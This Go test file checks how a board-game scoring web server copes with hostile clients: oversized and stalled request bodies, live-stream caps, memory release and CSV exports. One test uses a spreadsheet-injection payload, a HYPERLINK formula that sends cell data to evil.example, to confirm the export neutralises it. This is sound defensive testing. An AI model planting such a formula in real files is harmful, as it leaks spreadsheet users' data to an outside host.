package server

// Hostile clients (issue #25), on 127.0.0.1 only and bounded: every
// connection has a deadline, and nothing here asserts how long anything
// took. Each test would fail on the server before the fix it covers.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"runtime"
	"runtime/debug"
	"runtime/metrics"
	"strings"
	"testing"
	"time"

	"tablemate/web/areatest"
	"tablemate/web/kks/kkstest"
	"tablemate/web/webtest"
)

// rawDeadline bounds every raw connection of these tests. A 33 MiB
// chunked import is read through the multipart and JSON readers before
// its answer: under -race on a busy 2-core machine that took over 20 s
// (TestHostileImportBodyLimits failed so), so the bound leaves room.
const rawDeadline = 90 * time.Second

// rawExchange is one request on a raw TCP connection: head (request line
// and headers, ending in a blank line) is written, then send writes the
// body as the client pleases, and only then is the answer read, as
// Python's urllib does. A connection reset while sending or reading
// fails the test with what the client saw.
func rawExchange(t *testing.T, ts *testServer, head string, send func(net.Conn) error) (*http.Response, string) {
	t.Helper()
	conn, err := net.Dial("tcp", ts.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(rawDeadline))
	if _, err := io.WriteString(conn, head); err != nil {
		t.Fatalf("sending the headers: %v", err)
	}
	var sendErr error
	if send != nil {
		sendErr = send(conn)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("no answer (send: %v): %v", sendErr, err)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("answer cut off (send: %v): %v", sendErr, err)
	}
	if sendErr != nil {
		t.Fatalf("the server stopped reading the body before answering %d: %v", resp.StatusCode, sendErr)
	}
	return resp, string(body)
}

// sendSlowly writes n bytes of b in chunks of 64 KiB with a short pause
// between them, as a phone on a real network would: the whole body takes
// longer than the half second net/http waits before closing a connection
// whose body it did not read.
func sendSlowly(n int, chunked bool) func(net.Conn) error {
	return func(conn net.Conn) error {
		chunk := bytes.Repeat([]byte("a"), 64<<10)
		for sent := 0; sent < n; sent += len(chunk) {
			part := chunk[:min(len(chunk), n-sent)]
			if chunked {
				if _, err := fmt.Fprintf(conn, "%x\r\n%s\r\n", len(part), part); err != nil {
					return err
				}
			} else if _, err := conn.Write(part); err != nil {
				return err
			}
			time.Sleep(15 * time.Millisecond)
		}
		if chunked {
			_, err := io.WriteString(conn, "0\r\n\r\n")
			return err
		}
		return nil
	}
}

func postHead(path, contentType string, length int) string {
	h := "POST " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nSec-Fetch-Site: same-origin\r\nContent-Type: " + contentType + "\r\n"
	if length >= 0 {
		h += fmt.Sprintf("Content-Length: %d\r\n", length)
	} else {
		h += "Transfer-Encoding: chunked\r\n"
	}
	return h + "\r\n"
}

// A body over the limit is a 413 that says the limit, and the client,
// still sending when the server knew, gets it instead of a reset.
func TestHostileBodyOverTheLimit(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	const size = 3 << 20
	form := "application/x-www-form-urlencoded"

	// The length announced: refused at once, the body read and dropped.
	resp, body := rawExchange(t, ts, postHead("/tables", form, size), sendSlowly(size, false))
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "more than 2 MB, the most Tablemate takes") {
		t.Errorf("announced 3 MiB form: %d %.300q", resp.StatusCode, body)
	}
	if !resp.Close {
		t.Error("after a refused body the connection should close")
	}
	// Chunked, no length: found out while reading the form.
	resp, body = rawExchange(t, ts, postHead("/tables", form, -1), sendSlowly(size, true))
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "more than 2 MB") {
		t.Errorf("chunked 3 MiB form: %d %.300q", resp.StatusCode, body)
	}
	// The JSON API says it in JSON.
	resp, body = rawExchange(t, ts, postHead("/api/v1/games/koffer-katze-sombrero/score", "application/json", size), sendSlowly(size, false))
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, `"message":"the body is larger than 2 MiB`) {
		t.Errorf("3 MiB to the API: %d %.300q", resp.StatusCode, body)
	}
	// Over API.md's 1 MiB but under the server's limit: API.md's 400, and
	// the rest of the body is read so the client sees it.
	resp, body = rawExchange(t, ts, postHead("/api/v1/games/koffer-katze-sombrero/score", "application/json", 1900<<10), sendSlowly(1900<<10, false))
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "larger than 1 MiB") {
		t.Errorf("1.9 MiB to the API: %d %.300q", resp.StatusCode, body)
	}
	// A client that waits for "100 Continue" is answered without sending.
	head := strings.Replace(postHead("/tables", form, size), "\r\n\r\n", "\r\nExpect: 100-continue\r\n\r\n", 1)
	resp, body = rawExchange(t, ts, head, nil)
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "2 MB") {
		t.Errorf("3 MiB announced with Expect: %d %.300q", resp.StatusCode, body)
	}
	// In German too.
	head = strings.Replace(postHead("/tables", form, size), "\r\n\r\n", "\r\nAccept-Language: de\r\n\r\n", 1)
	if resp, body = rawExchange(t, ts, head, sendSlowly(size, false)); !strings.Contains(body, "Das ist mehr als 2 MB") {
		t.Errorf("German 413: %d %.300q", resp.StatusCode, body)
	}
	// The server still answers after all that.
	if p := ts.Get("/healthz"); p.Status != http.StatusOK {
		t.Errorf("healthz after oversize bodies: %d", p.Status)
	}
}

// multipartFile is an import form's body holding data as its file, sent
// with Content-Type multipartType.
func multipartFile(data string) string {
	return "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"t.json\"\r\n" +
		"Content-Type: application/json\r\n\r\n" + data + "\r\n--b0undary--\r\n"
}

const multipartType = "multipart/form-data; boundary=b0undary"

// sendFast writes body as quickly as the server takes it, in chunks of
// 1 MiB, chunked or not.
func sendFast(body string, chunked bool) func(net.Conn) error {
	return func(conn net.Conn) error {
		for len(body) > 0 {
			part := body[:min(len(body), 1<<20)]
			body = body[len(part):]
			var err error
			if chunked {
				_, err = fmt.Fprintf(conn, "%x\r\n%s\r\n", len(part), part)
			} else {
				_, err = io.WriteString(conn, part)
			}
			if err != nil {
				return err
			}
		}
		if chunked {
			_, err := io.WriteString(conn, "0\r\n\r\n")
			return err
		}
		return nil
	}
}

// The import has its own body limit (its file of up to 32 MiB and the
// form around it): a file over 2 MiB imports; over the import's limit it
// is a 413 naming that limit after the body was read and dropped, a file
// over 32 MiB sent chunked is refused by the import naming its limit, and
// a stalled import is a 408; none of them writes anything.
func TestHostileImportBodyLimits(t *testing.T) {
	ts := newTestServerWith(t, func(a *App) { a.writeRate = 0; a.interop.SetBudget(1<<30, 1<<30) })

	// 3 MiB: an export with spaces between its tokens, as JSON allows.
	export := areatest.KKSExport(3)
	padded := export[:1] + strings.Repeat(" ", 3<<20) + export[1:]
	if p := ts.Upload(t, padded); p.Status != http.StatusSeeOther {
		t.Fatalf("a 3 MiB import: %d %s", p.Status, p.Text(`[data-testid="import-error"]`))
	}
	rows := ts.rows()

	over := multipartFile(`{"format":"` + strings.Repeat("a", maxImportBody))
	resp, body := rawExchange(t, ts, postHead("/tables/import", multipartType, len(over)), sendFast(over, false))
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "more than 33 MB, the most Tablemate takes") || !resp.Close {
		t.Errorf("a 33 MiB+ import, Content-Length: %d close=%v %.300q", resp.StatusCode, resp.Close, body)
	}
	resp, body = rawExchange(t, ts, postHead("/tables/import", multipartType, -1), sendFast(over, true))
	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "larger than 32 MiB, the most an import reads") {
		t.Errorf("a 33 MiB+ import, chunked: %d %.300q", resp.StatusCode, body)
	}
	if after := ts.rows(); after != rows {
		t.Errorf("imports over the limit wrote %d rows", after-rows)
	}

	var log webtest.SyncBuffer
	slow := newTestServerWith(t, func(a *App) {
		a.headerTimeout, a.bodyTimeout = 500*time.Millisecond, 500*time.Millisecond
		a.log = slog.New(slog.NewTextHandler(&log, nil))
	})
	rows = slow.rows()
	whole := multipartFile(export)
	resp, body = rawExchange(t, slow, postHead("/tables/import", multipartType, len(whole)),
		func(conn net.Conn) error { _, err := io.WriteString(conn, whole[:len(whole)/2]); return err })
	if resp.StatusCode != http.StatusRequestTimeout || !strings.Contains(body, "arrived too slowly") {
		t.Errorf("a stalled import: %d %.300q", resp.StatusCode, body)
	}
	if !strings.Contains(log.String(), "route=/tables/import status=408") {
		t.Errorf("the log does not say 408 for the import:\n%s", log.String())
	}
	if after := slow.rows(); after != rows {
		t.Errorf("a stalled import wrote %d rows", after-rows)
	}
}

// A body that stops arriving is a 408 in words, logged as 408; the form
// is not acted on (before: a truncated 200 OK).
func TestHostileSlowBody(t *testing.T) {
	t.Parallel()
	var log webtest.SyncBuffer
	ts := newTestServerWith(t, func(a *App) {
		a.headerTimeout, a.bodyTimeout = 500*time.Millisecond, 500*time.Millisecond
		a.log = slog.New(slog.NewTextHandler(&log, nil))
	})
	stall := func(conn net.Conn) error {
		_, err := io.WriteString(conn, "players%5B0%5D.name=Amelia&") // then nothing more
		return err
	}
	resp, body := rawExchange(t, ts, postHead("/check/koffer-katze-sombrero", "application/x-www-form-urlencoded", 200), stall)
	if resp.StatusCode != http.StatusRequestTimeout || !strings.Contains(body, "arrived too slowly (it was not complete after 1 second)") ||
		!strings.Contains(body, "</html>") {
		t.Errorf("slow form: %d %.400q", resp.StatusCode, body)
	}
	resp, body = rawExchange(t, ts, postHead("/api/v1/games/koffer-katze-sombrero/score", "application/json", 200), stall)
	if resp.StatusCode != http.StatusRequestTimeout || !strings.Contains(body, `"message":"the body arrived too slowly`) {
		t.Errorf("slow API body: %d %.300q", resp.StatusCode, body)
	}
	// A table is not created from half a form.
	resp, _ = rawExchange(t, ts, postHead("/tables", "application/x-www-form-urlencoded", 300),
		func(conn net.Conn) error {
			_, err := io.WriteString(conn, "game=koffer-katze-sombrero&name=Half&players=Ana&players=Ben&")
			return err
		})
	if resp.StatusCode != http.StatusRequestTimeout {
		t.Errorf("slow table form: %d", resp.StatusCode)
	}
	logged := log.String()
	// Requests are logged by route, never by URI (a URI may hold a link).
	for _, route := range []string{"/check/:game", "/api/v1/games/:game/score", "/tables"} {
		if !strings.Contains(logged, "route="+route+" status=408") {
			t.Errorf("the log does not say 408 for %s:\n%s", route, logged)
		}
	}
	// A body that arrives whole, if not fast, is served as usual.
	ok := "players%5B0%5D.name=Amelia&players%5B1%5D.name=Victor"
	resp, _ = rawExchange(t, ts, postHead("/check/koffer-katze-sombrero", "application/x-www-form-urlencoded", len(ok)),
		func(conn net.Conn) error { _, err := io.WriteString(conn, ok); return err })
	if resp.StatusCode >= 400 && resp.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("a whole form: %d", resp.StatusCode)
	}
}

// The server's own timeouts: headers, then a body, then the answer.
func TestHostileServerTimeouts(t *testing.T) {
	srv := newHTTPServer(":0", NewApp(nil, slog.New(slog.DiscardHandler)))
	if srv.ReadHeaderTimeout != defaultHeaderTimeout || srv.ReadTimeout != defaultHeaderTimeout+DefaultBodyTimeout ||
		srv.WriteTimeout != writeTimeout || srv.IdleTimeout <= 0 {
		t.Errorf("timeouts: header %v read %v write %v idle %v", srv.ReadHeaderTimeout, srv.ReadTimeout, srv.WriteTimeout, srv.IdleTimeout)
	}
}

// CSV: every text cell that a spreadsheet would run is neutralised, the
// table's name included; scores stay numbers, negative ones too.
func TestHostileCSVFormulas(t *testing.T) {
	ts := newTestServer(t)
	admin := ts.CreateLeague(t, "Club", "total", "@Ana", "-Ben")

	const evil = `=HYPERLINK("http://evil.example/?"&B2,"Click")`
	nf := ts.Get("/tables/new").FormOf(t, "/tables")
	nf.Set("game", "koffer-katze-sombrero")
	nf.Set("name", evil)
	nf["players"] = []string{"@Ana", "-Ben"}
	created := ts.Post("/tables", nf)
	table := created.Header.Get("Location")
	if created.Status != http.StatusSeeOther {
		t.Fatalf("create table: %d", created.Status)
	}
	// -Ben ends on -1: one face-down card, no tokens (scored though it
	// breaks KKS-2, ruling G-3). Then a valid game for the league.
	ts.RecordKKS(t, table, []map[string]string{kkstest.Amelia, {"red": "x"}}, []string{"3", "0"})
	ts.RecordKKS(t, table, []map[string]string{
		{"red": "1 2 3 4 5 6 7 8 9 10", "blue": "1 2 3 4 5 6 7"},
		{"yellow": "1 2 3 4 5 6 7 8 9 10", "black": "1 2 3 4 5 6 7"},
	}, []string{"3", "1"}) // @Ana 86, -Ben 84

	rows, err := csv.NewReader(strings.NewReader(ts.Get(table + "/results.csv").Body)).ReadAll()
	if err != nil || len(rows) != 5 {
		t.Fatalf("results.csv: %v %q", err, rows)
	}
	want := [][]string{
		{"table", "game", "player", "total", "winner", "valid", "imported", "kind", "place", "status", "counted"},
		{"'" + evil, "1", "'@Ana", "58", "false", "false", "false", "koffer-katze-sombrero", "1", "disputed", "false"},
		{"'" + evil, "1", "'-Ben", "-1", "false", "false", "false", "koffer-katze-sombrero", "2", "disputed", "false"},
		{"'" + evil, "2", "'@Ana", "86", "true", "true", "false", "koffer-katze-sombrero", "1", "checked", "true"},
		{"'" + evil, "2", "'-Ben", "84", "false", "true", "false", "koffer-katze-sombrero", "2", "checked", "true"},
	}
	if fmt.Sprint(rows) != fmt.Sprint(want) {
		t.Errorf("results.csv\n got %q\nwant %q", rows, want)
	}

	form := ts.Get(admin).FormOf(t, admin+"/tables")
	if p := ts.Post(admin+"/tables", url.Values{"_csrf": form["_csrf"], "pick": {strings.TrimPrefix(table, "/tables/")}}); p.Status != http.StatusSeeOther {
		t.Fatalf("add the table to the league: %d %s", p.Status, p.Text(`[data-testid="league-error"]`))
	}
	public, _ := ts.Get(admin).Doc.Find(`[data-testid="public-link"]`).Attr("value")
	standings := ts.Get(public[strings.Index(public, "/leagues/"):] + "/standings.csv").Body
	rows, err = csv.NewReader(strings.NewReader(standings)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("standings.csv: %v %q", err, standings)
	}
	if fmt.Sprint(rows[1:]) != fmt.Sprint([][]string{{"1", "'@Ana", "1", "1", "86"}, {"2", "'-Ben", "1", "0", "84"}}) {
		t.Errorf("standings.csv: %q", rows)
	}
	// Each dangerous first character: web/interop's TestSheetCells.
}

// openStream opens a live stream on a raw connection and returns its
// answer once the headers are in; the stream stays open until the
// connection is closed.
func openStream(t *testing.T, ts *testServer, path string) (net.Conn, *http.Response) {
	t.Helper()
	conn, err := net.Dial("tcp", ts.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	conn.SetDeadline(time.Now().Add(rawDeadline))
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: text/event-stream\r\n\r\n", path)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("stream %s: %v", path, err)
	}
	if resp.StatusCode != http.StatusOK {
		b, _ := io.ReadAll(resp.Body)
		resp.Body = io.NopCloser(bytes.NewReader(b))
	}
	return conn, resp
}

// refusedStream checks a 503 with Retry-After and the words of the cap.
func refusedStream(t *testing.T, ts *testServer, path, words string) {
	t.Helper()
	_, resp := openStream(t, ts, path)
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusServiceUnavailable || resp.Header.Get("Retry-After") != "30" || !strings.Contains(string(body), words) {
		t.Errorf("stream over the cap %s: %d Retry-After %q %.300q, want 503 saying %q", path, resp.StatusCode, resp.Header.Get("Retry-After"), body, words)
	}
}

func waitFor(t *testing.T, what string, done func() bool) {
	t.Helper()
	for end := time.Now().Add(rawDeadline); !done(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("still waiting for %s", what)
		}
	}
}

func TestHostileStreamCaps(t *testing.T) {
	t.Run("per client", func(t *testing.T) {
		ts := newTestServerWith(t, func(a *App) { a.streams = newStreamCaps(2, 100, 100) })
		a, b := ts.CreateTable("Amelia", "Victor"), ts.CreateTable("Ana", "Ben")
		first, _ := openStream(t, ts, a+"/live")
		openStream(t, ts, b+"/live")
		refusedStream(t, ts, a+"/live", "This address already has 2 live pages open")
		first.Close()
		waitFor(t, "the closed stream's slot", func() bool { open, _, _ := ts.app.streams.counts(); return open == 1 })
		if _, resp := openStream(t, ts, a+"/live"); resp.StatusCode != http.StatusOK {
			t.Errorf("after a stream closed, a new one: %d", resp.StatusCode)
		}
	})
	t.Run("per table", func(t *testing.T) {
		ts := newTestServerWith(t, func(a *App) { a.streams = newStreamCaps(100, 2, 100) })
		a, b := ts.CreateTable("Amelia", "Victor"), ts.CreateTable("Ana", "Ben")
		view, _ := ts.Get(a).Doc.Find(`[data-testid="view-link"]`).Attr("value")
		u, _ := url.Parse(view)
		openStream(t, ts, a+"/live")
		openStream(t, ts, u.Path+"/live") // the view-only link counts for the same table
		refusedStream(t, ts, a+"/live", "This table already has 2 live pages open")
		if _, resp := openStream(t, ts, b+"/live"); resp.StatusCode != http.StatusOK {
			t.Errorf("another table: %d", resp.StatusCode)
		}
	})
	t.Run("in all", func(t *testing.T) {
		ts := newTestServerWith(t, func(a *App) { a.streams = newStreamCaps(100, 100, 3) })
		a, b := ts.CreateTable("Amelia", "Victor"), ts.CreateTable("Ana", "Ben")
		openStream(t, ts, a+"/live")
		openStream(t, ts, a+"/live")
		openStream(t, ts, b+"/live")
		refusedStream(t, ts, b+"/live", "The server already follows 3 live pages")
		if _, resp := openStream(t, ts, "/tables/nope/live"); resp.StatusCode != http.StatusNotFound {
			t.Errorf("an unknown table is still a 404: %d", resp.StatusCode)
		}
	})
	// Addresses: an IPv6 client is its /64; IPv4 in IPv6 is IPv4.
	for in, want := range map[string]string{
		"2001:db8:1:2::1": "2001:db8:1:2::/64", "2001:db8:1:2:ffff::9": "2001:db8:1:2::/64",
		"::ffff:192.0.2.7": "192.0.2.7", "192.0.2.7": "192.0.2.7", "junk": "junk",
	} {
		if got := clientKey(in); got != want {
			t.Errorf("clientKey(%q) = %q, want %q", in, got, want)
		}
	}
}

// goMemory is the memory the Go runtime holds from the system and has not
// returned: what shows in RSS.
func goMemory() uint64 {
	s := []metrics.Sample{{Name: "/memory/classes/total:bytes"}, {Name: "/memory/classes/heap/released:bytes"}}
	metrics.Read(s)
	return s[0].Value.Uint64() - s[1].Value.Uint64()
}

// Streams that close give back their goroutines, their map entries and,
// once enough of them closed, their memory.
func TestHostileStreamsGiveMemoryBack(t *testing.T) {
	released := make(chan struct{}, 1)
	ts := newTestServerWith(t, func(a *App) {
		a.streams = newStreamCaps(1000, 1000, 1000)
		a.streams.release = func() {
			releaseMemory()
			select {
			case released <- struct{}{}:
			default:
			}
		}
	})
	tables := []string{ts.CreateTable("Amelia", "Victor"), ts.CreateTable("Ana", "Ben")}
	runtime.GC()
	debug.FreeOSMemory()
	goroutines, before := runtime.NumGoroutine(), goMemory()

	const n = releaseAfter + 44
	conns := make([]net.Conn, 0, n)
	for i := range n {
		conn, resp := openStream(t, ts, tables[i%2]+"/live")
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("stream %d: %d", i, resp.StatusCode)
		}
		conns = append(conns, conn)
	}
	if open, clients, tbls := ts.app.streams.counts(); open != n || clients != 1 || tbls != 2 {
		t.Fatalf("open %d streams from %d clients on %d tables, want %d from 1 on 2", open, clients, tbls, n)
	}
	if g := runtime.NumGoroutine(); g < goroutines+n {
		t.Fatalf("%d goroutines with %d streams open (%d before)", g, n, goroutines)
	}
	peak := goMemory()

	for _, c := range conns {
		c.Close()
	}
	waitFor(t, "every stream to end", func() bool { open, _, _ := ts.app.streams.counts(); return open == 0 })
	waitFor(t, "the streams' goroutines to end", func() bool { return runtime.NumGoroutine() <= goroutines+5 })
	subs := ts.app.live.Tables()
	if _, clients, tbls := ts.app.streams.counts(); subs != 0 || clients != 0 || tbls != 0 {
		t.Errorf("after every stream closed: %d tables with subscribers, %d clients and %d tables counted", subs, clients, tbls)
	}
	select {
	case <-released:
	case <-time.After(rawDeadline):
		t.Fatal("the memory of closed streams was never handed back")
	}
	after := goMemory()
	t.Logf("Go memory: %d KB before, %d KB with %d streams, %d KB after they closed", before>>10, peak>>10, n, after>>10)
	if peak <= before || after > before+(peak-before)/4 {
		t.Errorf("Go memory %d KB before, %d KB with %d streams, still %d KB after they closed", before>>10, peak>>10, n, after>>10)
	}
}

// The score API's cost, counted rather than timed: one call through the
// whole router and middleware allocates at most 120 times (67 now; 296
// before the engine read the usual request by hand and the answer was
// written without reflection; the engine alone: TestScoreAllocations).
func TestHostileScoreAPIBudget(t *testing.T) {
	ts := newTestServer(t)
	h := ts.Config.Handler
	const state = `{"players":[{"name":"Amelia","tokens":1,"display":{"red":"10 x9 5","yellow":"8 10 x1 9 x","black":"9","blue":"3 4 6"}},` +
		`{"name":"Victor","tokens":7,"display":{"red":"3 4","yellow":"5 x","black":"8 x3 6 x","blue":"9 x 10 x"}},` +
		`{"name":"Enrique","tokens":11,"display":{"red":"1 7","yellow":"6 7","black":"4 x 5 10 x","blue":"8 x 2"}}]}`
	call := func() *httptest.ResponseRecorder {
		rec := httptest.NewRecorder()
		req := httptest.NewRequest(http.MethodPost, "/api/v1/games/koffer-katze-sombrero/score", strings.NewReader(state))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept-Encoding", "gzip")
		h.ServeHTTP(rec, req)
		return rec
	}
	rec := call()
	zr, err := gzip.NewReader(rec.Body) // 1 KB and more: compressed
	if err != nil {
		t.Fatalf("score API: %d %v", rec.Code, err)
	}
	if body, _ := io.ReadAll(zr); rec.Code != http.StatusOK || !strings.Contains(string(body), `"valid":true`) {
		t.Fatalf("score API: %d %.200q", rec.Code, body)
	}
	n := testing.AllocsPerRun(50, func() { call() })
	t.Logf("%v allocations per call", n)
	if n > 120 {
		t.Errorf("one score-API call allocates %v times, want at most 120", n)
	}
}
